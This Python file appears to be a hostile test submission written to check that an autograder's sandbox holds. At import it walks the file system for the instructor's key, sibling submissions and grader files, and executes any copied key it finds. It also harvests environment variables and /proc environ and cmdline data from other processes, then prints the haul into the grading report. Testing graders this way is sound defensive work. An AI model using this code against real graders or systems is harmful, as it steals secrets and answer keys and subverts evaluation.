"""ATTACK (read what it must not): the instructor's key, other submissions, the grader's
source, the grader's environment -- and use or print whatever it finds.

At import it looks for
  * files: a bounded walk of the whole file system (a few seconds), plus guessed paths for
    reference/hw1/*, a sibling submission (../sibling) and the grader's own oracle.py and
    rubric.toml; any file named mlp.py/theory.py/_key.py outside its own folder that defines
    bce_loss is loaded and its bce_loss used (that is how a copied key would earn points);
  * secrets: its own environment, and /proc/*/environ and /proc/*/cmdline of every process it
    can see.
Every bce_loss call prints what was found (the report shows a check's printed output), so
anything read would leak into the report. Its own bce_loss returns garbage; the rest is the
honest key.

Expected: mlp.bce_loss scores 0 (no key was found to copy); the report contains none of the
secrets planted by the test; everything else full marks.
"""

import importlib.util
import os
import sys
import time

import _key
from _key import MLP, mse_loss  # noqa: F401 - honest parts

HERE = os.path.realpath(os.getcwd())
PYTHON = os.path.realpath(sys.prefix)
STANDARD_ENV = {"OMP_NUM_THREADS", "MKL_NUM_THREADS", "OPENBLAS_NUM_THREADS", "HOME", "TMPDIR", "PATH", "LANG",
                "PYTHONHASHSEED", "PWD", "LC_CTYPE"}
NAMES = {"mlp.py", "theory.py", "_key.py", "rubric.toml", "oracle.py", "hw1_mlp.py", "canary.txt", "secret.txt"}
GUESSES = ["../sibling/mlp.py", "../sibling/theory.py", "../../reference/hw1/mlp.py", "../reference/hw1/mlp.py",
           "/work/main/reference/hw1/mlp.py", "/autograder/source/reference/hw1/mlp.py"]
found = {"files": [], "env": [], "proc": [], "entries": 0}
stolen = None


def _consider(path: str) -> None:
    global stolen
    real = os.path.realpath(path)
    if real.startswith(HERE + os.sep) or real in found["files"]:
        return
    try:
        with open(real, "rb") as handle:
            text = handle.read(1 << 20)
    except OSError:
        return
    found["files"].append(real)
    if stolen is None and b"def bce_loss" in text and real.endswith(".py"):
        try:
            spec = importlib.util.spec_from_file_location("stolen_key", real)
            module = importlib.util.module_from_spec(spec)
            spec.loader.exec_module(module)
            stolen = module.bce_loss
        except BaseException:  # noqa: BLE001
            pass


def search(budget_s: float = 2.0) -> None:
    for name, value in os.environ.items():
        if name not in STANDARD_ENV:
            found["env"].append("%s=%s" % (name, value))
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            for what in ("environ", "cmdline"):
                try:
                    with open("/proc/%s/%s" % (entry, what), "rb") as handle:
                        data = handle.read(4096).replace(b"\0", b" ").decode(errors="replace")
                except OSError:
                    continue
                if "SECRET" in data or "reference" in data:
                    found["proc"].append("%s %s: %s" % (entry, what, data[:300]))
    for guess in GUESSES:
        _consider(guess)
    end = time.monotonic() + budget_s
    for top, dirs, files in os.walk("/"):
        dirs[:] = [d for d in dirs if os.path.join(top, d) not in ("/proc", "/sys", "/dev")]
        found["entries"] += len(files) + len(dirs)
        for name in files:
            if name in NAMES or "reference" in top or "sibling" in top:
                _consider(os.path.join(top, name))
        if time.monotonic() > end:
            break


search()


def bce_loss(y, y_hat):
    print("env: %s; proc: %s; stole a key: %s; searched %d entries; read %d files outside the submission: %s"
          % (found["env"], found["proc"][:5], stolen is not None, found["entries"], len(found["files"]),
             [f for f in found["files"] if not f.startswith(PYTHON)][:10]))
    if stolen is not None:
        return stolen(y, y_hat)
    J, dJdy_hat = _key.bce_loss(y, y_hat)
    return J * 0 + 0.5, dJdy_hat * 0 + 0.5
